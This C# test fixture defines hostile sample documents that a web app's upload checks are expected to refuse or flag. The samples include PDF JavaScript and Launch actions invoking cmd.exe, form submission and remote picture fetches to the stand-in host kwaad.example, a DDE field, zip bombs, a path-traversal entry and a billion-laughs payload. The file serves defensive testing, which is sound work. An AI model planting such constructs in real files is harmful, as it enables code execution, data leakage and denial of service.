using System.Text;
using Showcase.Web.Tests.Media.Library;
using static Showcase.Web.Tests.Media.Hostile.HostileFile;

namespace Showcase.Web.Tests.Media.Hostile;

/// <summary>Documents that do something, hide something, or unpack to far more than they are.</summary>
internal static class HostileDocuments
{
    private const string Acts = "voert iets uit";
    private const string Elsewhere = "buiten het document";
    private const string Word = "word/document.xml";
    private const string References = "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"a\" TargetMode=\"External\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{0}\" Target=\"https://kwaad.example/x\"/></Relationships>";

    public static IReadOnlyList<HostileFile> All { get; } =
    [
        Refused("a page called a PDF", "stuk.pdf", () => Bytes("<!doctype html><script>alert(1)</script>"), "is geen PDF-document"),
        Refused("a PDF that ends halfway", "half.pdf", () => Bytes("%PDF-1.7\n1 0 obj << /Type /Cat"), "beschadigd"),
        TooMuch("a PDF that runs a script", "script.pdf", () => SampleFiles.Pdf("1 0 obj <</S/JavaScript/JS(app.alert\\(1\\))>> endobj"), Acts),
        TooMuch("a PDF that runs a script under another spelling", "spelling.pdf", () => SampleFiles.Pdf("1 0 obj <</S/Java#53cript/JS(app.alert\\(1\\))>> endobj"), Acts),
        TooMuch("a PDF that runs a script from a packed object", "gepakt.pdf", () => PdfWith("/Type/ObjStm/N 1/First 4", "1 0 <</S/JavaScript/JS(app.alert\\(1\\))>>"), Acts),
        TooMuch("a PDF that starts a program", "start.pdf", () => SampleFiles.Pdf("1 0 obj <</S/Launch/F(cmd.exe)>> endobj"), Acts),
        TooMuch("a PDF that sends a form away", "formulier.pdf", () => SampleFiles.Pdf("1 0 obj <</S/SubmitForm/F(https://kwaad.example)>> endobj"), Acts),
        TooMuch("a PDF with a file inside", "bijlage.pdf", () => SampleFiles.Pdf("1 0 obj <</Type/EmbeddedFile/Length 3>> endobj"), Acts),
        TooMuch("a PDF that opens another file", "ander.pdf", () => SampleFiles.Pdf("1 0 obj <</S/GoToR/F(\\\\\\\\kwaad\\\\x.pdf)>> endobj"), Elsewhere),
        TooMuch("a PDF that is locked", "slot.pdf", () => SampleFiles.Pdf("trailer <</Encrypt 3 0 R>>"), "beveiligd"),
        TooMuch("a PDF whose objects are packed in an unknown way", "vreemd.pdf", () => SampleFiles.Pdf("1 0 obj <</Type/ObjStm/Filter/LZWDecode/Length 3>> stream\nabc\nendstream"), "beveiligd"),
        TooMuch("a PDF that unpacks to a hundred megabytes", "bom.pdf", () => PdfWith("/Type/ObjStm", null), "beveiligd"),
        TooMuch("a PDF that names who made it in a packed object", "wie.pdf", () => PdfWith("/Type/ObjStm", "1 0 <</Author(Jan Jansen)>>"), "wie hem maakte"),
        TooMuch("a PDF that names who made it elsewhere", "waar.pdf", () => SampleFiles.Pdf("1 0 obj <</Author 7 0 R>> endobj 7 0 obj (Jan Jansen) endobj"), "wie hem maakte"),
        Safe("a PDF that names who made it", "naam.pdf", () => SampleFiles.Pdf("1 0 obj <</Title(Verslag)/Author(Jan \\(J.\\) Jansen)/Auth#6fr<4A616E73656E>>> endobj <dc:creator><rdf:Seq><rdf:li>Jansen</rdf:li></rdf:Seq></dc:creator>")),
        Safe("a PDF with a page and a packed file behind its end", "zip.pdf", () => [.. SampleFiles.Pdf(), .. Bytes("<script>alert(1)</script>"), .. SampleFiles.Zip(("alert(1).js", [1]))]),
        Refused("any packed file called Word", "stuk.docx", () => SampleFiles.Zip(("virus.exe", [1, 2, 3])), "is geen Word-document"),
        Refused("a Word document called Excel", "tabel.xlsx", () => SampleFiles.Zip((Word, Bytes("<x/>"))), "is geen Excel-bestand"),
        Refused("a packed file called OpenDocument", "tekst.odt", () => SampleFiles.Zip(("content.xml", Bytes("<x/>"))), "is geen OpenDocument-tekst"),
        Refused("a Word document that ends halfway", "half.docx", () => SampleFiles.Zip((Word, new byte[5_000])) is var zip ? [.. zip[..^30]] : [], "beschadigd"),
        TooMuch("a Word document with macros", "macro.docx", () => SampleFiles.Zip((Word, Bytes("<x/>")), ("word/vbaProject.bin", [1])), Acts),
        TooMuch("a Word document with a control", "knop.docx", () => SampleFiles.Zip((Word, Bytes("<x/>")), ("word/activeX/activeX1.bin", [1])), Acts),
        TooMuch("a Word document with a program inside", "ole.docx", () => SampleFiles.Zip((Word, Bytes("<x/>")), ("word/embeddings/oleObject1.bin", [1])), Acts),
        TooMuch("an Excel file with old macros", "oud.xlsx", () => SampleFiles.Zip(("xl/workbook.xml", Bytes("<x/>")), ("xl/macrosheets/sheet1.xml", [1])), Acts),
        TooMuch("an OpenDocument text with macros", "macro.odt", () => Odt(("Basic/Standard/Module1.xml", Bytes("<x/>"))), Acts),
        TooMuch("an OpenDocument text behind a password", "slot.odt", () => Odt(("META-INF/manifest.xml", Bytes("<m xmlns:x=\"urn:x\"><x:encryption-data/></m>"))), "beveiligd"),
        TooMuch("a Word document that opens a file elsewhere", "ver.docx", () => Docx("word/_rels/document.xml.rels", string.Format(null, CompositeFormat.Parse(References), "oleObject")), Elsewhere),
        TooMuch("a Word document that fetches a picture", "spion.docx", () => Docx("word/_rels/document.xml.rels", string.Format(null, CompositeFormat.Parse(References), "image")), Elsewhere),
        TooMuch("a Word document that asks a program by a field", "dde.docx", () => SampleFiles.Zip((Word, Bytes("<w xmlns:w=\"urn:w\"><w:fldChar/><w:instrText> DDE</w:instrText><w:r/><w:instrText>AUTO c:\\\\cmd.exe</w:instrText><w:fldChar/></w>"))), Elsewhere),
        TooMuch("a Word document that fetches a picture by a field", "veld.docx", () => SampleFiles.Zip((Word, Bytes("<w><fldSimple instr=\" includepicture https://kwaad.example/x\"/></w>"))), Elsewhere),
        TooMuch("an OpenDocument text that fetches a picture", "spion.odt", () => Odt(("content.xml", Bytes("<o xmlns:x=\"http://www.w3.org/1999/xlink\"><image x:href=\"https://kwaad.example/x.png\"/></o>"))), Elsewhere),
        TooMuch("an Excel file that reads another", "koppeling.xlsx", () => SampleFiles.Zip(("xl/workbook.xml", Bytes("<x/>")), ("xl/externalLinks/externalLink1.xml", Bytes("<ddeLink/>"))), Elsewhere),
        Safe("a Word document whose template is on a server", "sjabloon.docx", () => Docx("word/_rels/settings.xml.rels", string.Format(null, CompositeFormat.Parse(References), "attachedTemplate"))),
        TooMuch("a Word document that unpacks to two hundred megabytes", "bom.docx", () => SampleFiles.Zip((Word, Bytes("<x/>")), ("word/media/beeld.emf", new byte[201_000_000])), "Uitgepakt"),
        TooMuch("a Word document of one endless text", "tekst.docx", () => SampleFiles.Zip((Word, new byte[18_000_000])), "Uitgepakt"),
        TooMuch("a Word document of eleven thousand parts", "delen.docx", () => SampleFiles.Zip([(Word, Bytes("<x/>")), .. Enumerable.Range(0, 11_000).Select(number => ($"d/{number}", Array.Empty<byte>()))]), "Uitgepakt"),
        TooMuch("properties that unpack to seventeen megabytes", "eigen.docx", () => Docx("docProps/app.xml", "<Properties>" + new string(' ', 17_000_000) + "</Properties>"), "Uitgepakt"),
        Refused("a Word document with a part that leads out of it", "uit.docx", () => Docx("../../../etc/cron.d/x", "x"), "beschadigd"),
        Refused("a Word document with the same part twice", "twee.docx", () => SampleFiles.Zip((Word, Bytes("<x/>")), (Word, Bytes("<y/>"))), "beschadigd"),
        Refused("a Word document whose properties laugh a billion times", "lach.docx", () => Docx("docProps/core.xml", "<!DOCTYPE x [<!ENTITY a \"ha\"><!ENTITY b \"&a;&a;\">]><x>&b;</x>"), "beschadigd"),
        Safe("a Word document that names who made it", "naam.docx", () => Docx("docProps/core.xml", "<p xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>Verslag</dc:title><dc:creator>Jan Jansen</dc:creator><lastModifiedBy>Jansen</lastModifiedBy></p>")),
        Safe("a Word document with a photo that names who took it", "foto.docx", () => SampleFiles.Zip((Word, Bytes("<x/>")), ("word/media/image1.jpeg", SampleFiles.Jpeg()))),
        Safe("a Word document with a page before and behind it", "rand.docx", () => SampleFiles.Zip((Word, Bytes("<x/>"))) is var zip ? [.. zip, .. Bytes("<script>alert(1)</script>")] : []),
        Safe("an OpenDocument text that names who made it", "naam.odt", () => Odt(("meta.xml", Bytes("<o><dc:creator xmlns:dc=\"http://purl.org/dc/elements/1.1/\">Jansen</dc:creator><initial-creator>Jansen</initial-creator></o>")))),
        Refused("an old Word document", "oud.doc", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1], "een oud soort"),
        Refused("a Word document that says it has macros", "macro.docm", () => SampleFiles.Zip((Word, Bytes("<x/>"))), "macro’s"),
    ];

    private static byte[] Docx(string part, string content) => SampleFiles.Zip((Word, Bytes("<x/>")), (part, Bytes(content)));

    private static byte[] Odt(params (string, byte[])[] parts) => SampleFiles.Zip([("mimetype", Bytes("application/vnd.oasis.opendocument.text")), .. parts]);

    /// <param name="content">Nothing for a hundred megabytes of nothing.</param>
    private static byte[] PdfWith(string type, string? content)
    {
        var packed = content is null ? RasterBytes.Deflated(100_000_000) : RasterBytes.Deflated(Encoding.ASCII.GetBytes(content));
        return SampleFiles.Pdf($"1 0 obj <<{type}/Filter/FlateDecode/Length {packed.Length}>> stream\n{Encoding.Latin1.GetString(packed)}\nendstream endobj");
    }
}
